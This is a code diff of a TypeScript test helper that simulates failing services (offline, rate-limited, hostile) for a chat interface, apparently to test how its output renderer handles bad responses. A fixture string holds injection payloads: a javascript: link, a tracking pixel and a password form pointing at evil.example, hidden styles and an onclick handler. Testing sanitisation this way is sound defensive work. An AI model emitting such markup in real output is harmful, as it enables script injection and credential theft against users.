@@ -12,12 +12,12 @@ const hostileText = `Here is what an answer might try, shown as a reader gets it
 [A link that runs code](javascript:document.title='taken over') and
 ![an image that reports to another host](https://evil.example/pixel.png)
 
-<style>body { display: none }</style><b onclick="alert(1)">Bold text</b> stays, the rest is gone.
+<style>body { display: none }</style><b onclick="alert(1)">Bold text</b> stays. The rest is gone, or plain text.
 
 <form action="https://evil.example"><input name="password"></form>
 `;
 
-/** Answers questions as a failing service would. Requests that ask nothing pass through. */
+/** Answers questions as a failing service would. */
 const scripts: Readonly<Record<string, (ask: () => Promise<Response>) => Promise<Response>>> = {
   offline: () => Promise.reject(new TypeError('Failed to fetch')),
   limit: async () => json(429, { message: 'Too many requests' }, { 'Retry-After': '20' }),
@@ -30,14 +30,17 @@ const scripts: Readonly<Record<string, (ask: () => Promise<Response>) => Promise
   hostile: async () => stream(`0:${JSON.stringify(hostileText)}\nd:{"finishReason":"stop"}\n`),
 };
 
-/** Makes a page's questions fail in the chosen way; `none` and unknown names change nothing. Lasts until the page is left. */
+/**
+ * Makes a page's questions fail in the chosen way, and offline all requests; `none` and unknown names change nothing. Lasts until the
+ * page is left.
+ */
 export function failQuestions(page: Window & typeof globalThis, failure: string): void {
   const script = scripts[failure];
   if (!script) return;
   const real = page.fetch.bind(page);
   const failing: Fetch = (input, init) => {
-    const isQuestion = init?.method === 'POST';
-    return isQuestion ? script(() => real(input, init)) : real(input, init);
+    const isFailing = failure === 'offline' || init?.method === 'POST';
+    return isFailing ? script(() => real(input, init)) : real(input, init);
   };
   page.fetch = failing;
   if (failure === 'offline') Object.defineProperty(page.navigator, 'onLine', { get: () => false });
